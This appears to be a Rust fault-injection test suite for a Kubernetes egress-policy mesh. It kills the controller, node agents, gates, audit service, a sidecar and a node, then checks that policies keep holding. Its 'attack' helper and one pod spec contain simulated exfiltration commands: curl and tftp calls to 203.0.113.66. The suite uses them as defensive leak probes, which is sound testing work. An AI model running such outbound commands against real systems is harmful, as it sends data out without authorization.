//! Each part is killed in turn: what was running keeps running; new pods wait or start, and none
//! starts without its rules.

use std::{fs, time::Duration};

use anyhow::{Context as _, Result, ensure};
use k8s_openapi::api::core::v1::Pod;
use serde_json::json;
use turnpike_cluster::{Cluster, chart, kubectl::name_of, workloads};

use crate::{
    load::Load,
    stage::{EFFECT, SOON, curl, passes, passes_soon, soon},
};

const NAMESPACE: &str = "kills";
const PAYMENTS: &str = "https://api.payments.example/";

/// nginx on both nodes, clients on both, and a pod that an egress policy selects.
fn cast(cluster: &Cluster) -> Result<()> {
    let mut objects = vec![
        workloads::namespace(NAMESPACE, true),
        workloads::namespace("kills-plain", false),
    ];
    objects.extend(workloads::web(NAMESPACE, "web", 2));
    objects.extend(workloads::client(NAMESPACE, "client", "client", "node-b"));
    objects.extend(workloads::client("kills-plain", "payer", "payer", "node-b"));
    objects.push(json!({
        "apiVersion": "turnpike.dev/v1alpha1", "kind": "EgressPolicy",
        "metadata": {"name": "payments", "namespace": "kills-plain"},
        "spec": {"selector": {"matchLabels": {"app": "payer"}}, "allow": [
            {"hosts": ["api.payments.example"], "ports": [{"port": 443, "protocol": "TLS"}]},
        ]},
    }));
    let kubectl = &cluster.kubectl;
    kubectl.apply(&workloads::list(&objects))?;
    kubectl.rolled_out(NAMESPACE, "deploy/web", SOON)?;
    kubectl.wait(NAMESPACE, "pod/client", "condition=Ready", SOON)?;
    kubectl.wait("kills-plain", "pod/payer", "condition=Ready", SOON)?;
    passes_soon(kubectl, NAMESPACE, "client", "http://web/")?;
    passes_soon(kubectl, "kills-plain", "payer", PAYMENTS)
}

/// A pod of the control plane or of a node, and where it runs.
fn ours(cluster: &Cluster, component: &str, node: Option<&str>) -> Result<(String, String)> {
    let selector = format!("app.kubernetes.io/component={component}");
    let pods = cluster.kubectl.list::<Pod>(chart::NAMESPACE, &selector)?;
    let place = |pod: &Pod| {
        pod.spec
            .as_ref()
            .and_then(|spec| spec.node_name.clone())
            .unwrap_or_default()
    };
    let pod = pods
        .iter()
        .find(|pod| node.is_none_or(|node| place(pod) == node));
    let pod = pod.with_context(|| format!("a pod of {component}"))?;
    Ok((name_of(pod), place(pod)))
}

/// Kills the first process of one of our containers.
fn kill(cluster: &Cluster, component: &str, node: Option<&str>) -> Result<()> {
    let (pod, place) = ours(cluster, component, node)?;
    cluster
        .node(&place)?
        .kill_container(chart::NAMESPACE, &pod, component)
}

/// Whether anything of a pod that must not leave has left. Nothing else in these tests tries to by
/// this address.
fn leaked(cluster: &Cluster) -> bool {
    let log = fs::read_to_string(&cluster.ready.internet_log).unwrap_or_default();
    log.lines()
        .any(|line| line.contains(&hex::encode("kills-leak")))
}

fn attack(cluster: &Cluster) {
    let line = "curl -s --max-time 1 http://203.0.113.66/kills-leak; curl -s --max-time 1 tftp://203.0.113.66:4443/kills-leak";
    let _ = cluster
        .kubectl
        .exec("kills-plain", "payer/curl", &["sh", "-c", line]);
}

pub(crate) fn the_controller(cluster: &mut Cluster) -> Result<()> {
    cast(cluster)?;
    let kubectl = &cluster.kubectl;
    let load = Load::start(kubectl, NAMESPACE, "client", "http://web/")?;
    kill(cluster, "controller", None)?;
    // And away for longer than a restart takes.
    kubectl.ok(&[
        "-n",
        chart::NAMESPACE,
        "scale",
        "deploy/turnpike-controller",
        "--replicas=0",
    ])?;
    kubectl
        .wait(chart::NAMESPACE, "pod", "delete", SOON)
        .or_else(|_| {
            soon(SOON, "the controller is gone", || {
                Ok(ours(cluster, "controller", None).is_err())
            })
        })?;
    let refused = kubectl.try_apply(&workloads::list(&workloads::client(
        NAMESPACE, "fresh", "client", "node-b",
    )))?;
    ensure!(
        !refused.ok && refused.err.contains("injector.turnpike.dev"),
        "a pod was made without its sidecar: {}",
        refused.all()
    );
    ensure!(
        passes(kubectl, NAMESPACE, "client", &["http://web/"])?,
        "the mesh serves without its controller"
    );
    attack(cluster);
    ensure!(
        passes(kubectl, "kills-plain", "payer", &[PAYMENTS])?,
        "egress goes on without the controller"
    );
    kubectl.ok(&[
        "-n",
        chart::NAMESPACE,
        "scale",
        "deploy/turnpike-controller",
        "--replicas=1",
    ])?;
    kubectl.rolled_out(chart::NAMESPACE, "deploy/turnpike-controller", SOON)?;
    soon(SOON, "pods are made again", || {
        Ok(kubectl
            .try_apply(&workloads::list(&workloads::client(
                NAMESPACE, "fresh", "client", "node-b",
            )))?
            .ok)
    })?;
    kubectl.wait(NAMESPACE, "pod/fresh", "condition=Ready", SOON)?;
    passes_soon(kubectl, NAMESPACE, "fresh", "http://web/")?;
    load.stop_unharmed()?;
    ensure!(!leaked(cluster), "something left that was not allowed");
    Ok(())
}

pub(crate) fn agents(cluster: &mut Cluster) -> Result<()> {
    cast(cluster)?;
    let kubectl = &cluster.kubectl;
    let load = Load::start(kubectl, NAMESPACE, "client", "http://web/")?;
    let before = kubectl.json(NAMESPACE, &["pod", "client"])?["status"]["podIP"].clone();
    for node in ["node-a", "node-b"] {
        kill(cluster, "node", Some(node))?;
    }
    attack(cluster);
    // Made while the agents are away: it waits, and has its rules when it starts.
    let mut late = workloads::client("kills-plain", "late", "payer", "node-b");
    if let Some(pod) = late.last_mut() {
        pod["spec"]["containers"] = json!([workloads::caller(&[
            "sh",
            "-c",
            "for i in $(seq 20); do curl -s -o /dev/null --max-time 0.3 http://203.0.113.66/kills-leak; done; sleep infinity",
        ])]);
    }
    kubectl.apply(&workloads::list(&late))?;
    kubectl.wait("kills-plain", "pod/late", "condition=Ready", SOON)?;
    std::thread::sleep(Duration::from_secs(3));
    passes_soon(kubectl, "kills-plain", "late", PAYMENTS)?;
    kubectl.rolled_out(chart::NAMESPACE, "ds/turnpike-node", SOON)?;
    load.stop_unharmed()?;
    let after = kubectl.json(NAMESPACE, &["pod", "client"])?["status"]["podIP"].clone();
    ensure!(before == after, "the pod's address changed");
    ensure!(!leaked(cluster), "something left that was not allowed");
    kubectl.ok(&["-n", "kills-plain", "delete", "pod", "late"])?;
    Ok(())
}

pub(crate) fn gates(cluster: &mut Cluster) -> Result<()> {
    cast(cluster)?;
    let kubectl = &cluster.kubectl;
    let load = Load::start(kubectl, NAMESPACE, "client", "http://web/")?;
    kill(cluster, "gate", Some("node-b"))?;
    // No gate, no door; but the door comes back by itself.
    for _ in 0..4 {
        attack(cluster);
    }
    soon(SOON, "the allowed name passes again", || {
        passes(kubectl, "kills-plain", "payer", &[PAYMENTS])
    })?;
    load.stop_unharmed()?;
    ensure!(!leaked(cluster), "something left that was not allowed");
    Ok(())
}

pub(crate) fn audit(cluster: &mut Cluster) -> Result<()> {
    cast(cluster)?;
    let kubectl = &cluster.kubectl;
    kill(cluster, "audit", None)?;
    let said = curl(kubectl, "kills-plain", "payer", &[PAYMENTS])?;
    ensure!(
        said.out == "200",
        "egress waits for nobody far away: {}",
        said.all()
    );
    kubectl.rolled_out(chart::NAMESPACE, "sts/turnpike-audit", SOON)?;
    soon(SOON, "what left meanwhile is on record", || {
        let log = crate::egress::egress_log(kubectl, &["--namespace", "kills-plain"])?;
        Ok(log.out.contains("api.payments.example"))
    })
}

pub(crate) fn a_sidecar(cluster: &mut Cluster) -> Result<()> {
    cast(cluster)?;
    let kubectl = &cluster.kubectl;
    cluster
        .node("node-b")?
        .kill_container(NAMESPACE, "client", "turnpike-proxy")?;
    // While it is away nothing goes around it, in plaintext, to a peer that would take it.
    soon(SOON, "calls pass again", || {
        passes(kubectl, NAMESPACE, "client", &["http://web/"])
    })?;
    let restarted = |pod: Pod, sidecar: bool| {
        let statuses = pod.status.unwrap_or_default();
        let of_kind = if sidecar {
            statuses.init_container_statuses
        } else {
            statuses.container_statuses
        };
        of_kind
            .unwrap_or_default()
            .iter()
            .any(|status| status.restart_count > 0)
    };
    soon(EFFECT, "kubelet says that it started it again", || {
        Ok(restarted(kubectl.get(NAMESPACE, "client")?, true))
    })?;
    ensure!(
        !restarted(kubectl.get(NAMESPACE, "client")?, false),
        "the application was restarted too"
    );
    Ok(())
}

pub(crate) fn a_node(cluster: &mut Cluster) -> Result<()> {
    cast(cluster)?;
    let told = power_cut(cluster);
    if !cluster.node_mut("node-a")?.is_running() {
        cluster.node_mut("node-a")?.boot()?;
    }
    told
}

fn power_cut(cluster: &mut Cluster) -> Result<()> {
    let kubectl = cluster.kubectl.clone();
    cluster.node_mut("node-a")?.kill()?;
    // The other half serves. Half of the cluster's DNS is gone too, until that is noticed.
    let noticed = Duration::from_secs(60);
    soon(noticed, "the other node's pods serve", || {
        let said = kubectl.exec(
            NAMESPACE,
            "client/curl",
            &[
                "curl",
                "-s",
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}\n",
                "--max-time",
                "20",
                "http://web/?[1-20]",
            ],
        )?;
        Ok(said.out.lines().filter(|line| *line == "200").count() == 20)
    })?;
    soon(
        Duration::from_secs(60),
        "the node is said to be gone",
        || {
            let listed = kubectl.ok(&["get", "node", "node-a", "--no-headers"])?;
            Ok(listed.contains("NotReady"))
        },
    )?;
    cluster.node_mut("node-a")?.boot()?;
    kubectl.wait(
        "default",
        "node/node-a",
        "condition=Ready",
        Duration::from_secs(120),
    )?;
    for what in [
        "ds/turnpike-node",
        "ds/turnpike-gate",
        "deploy/turnpike-controller",
        "sts/turnpike-audit",
    ] {
        kubectl.rolled_out(chart::NAMESPACE, what, Duration::from_secs(120))?;
    }
    kubectl.rolled_out(NAMESPACE, "deploy/web", Duration::from_secs(120))?;
    soon(SOON, "every web pod is ready again", || {
        let pods = kubectl.list::<Pod>(NAMESPACE, "app=web")?;
        let ready = |pod: &Pod| {
            let conditions = pod
                .status
                .as_ref()
                .and_then(|status| status.conditions.clone())
                .unwrap_or_default();
            conditions
                .iter()
                .any(|c| c.type_ == "Ready" && c.status == "True")
        };
        Ok(pods.len() >= 2 && pods.iter().all(ready))
    })?;
    passes_soon(&kubectl, NAMESPACE, "client", "http://web/")?;
    // A pod that is made on the node that came back has its address and its rules.
    kubectl.apply(&workloads::list(&workloads::client(
        "kills-plain",
        "again",
        "payer",
        "node-a",
    )))?;
    kubectl.wait("kills-plain", "pod/again", "condition=Ready", SOON)?;
    passes_soon(&kubectl, "kills-plain", "again", PAYMENTS)?;
    let said = curl(
        &kubectl,
        "kills-plain",
        "again",
        &["http://203.0.113.66/kills-leak"],
    )?;
    ensure!(
        said.out != "200" && !leaked(cluster),
        "a pod of the node that came back is without its rules"
    );
    cluster.prove_isolation()
}
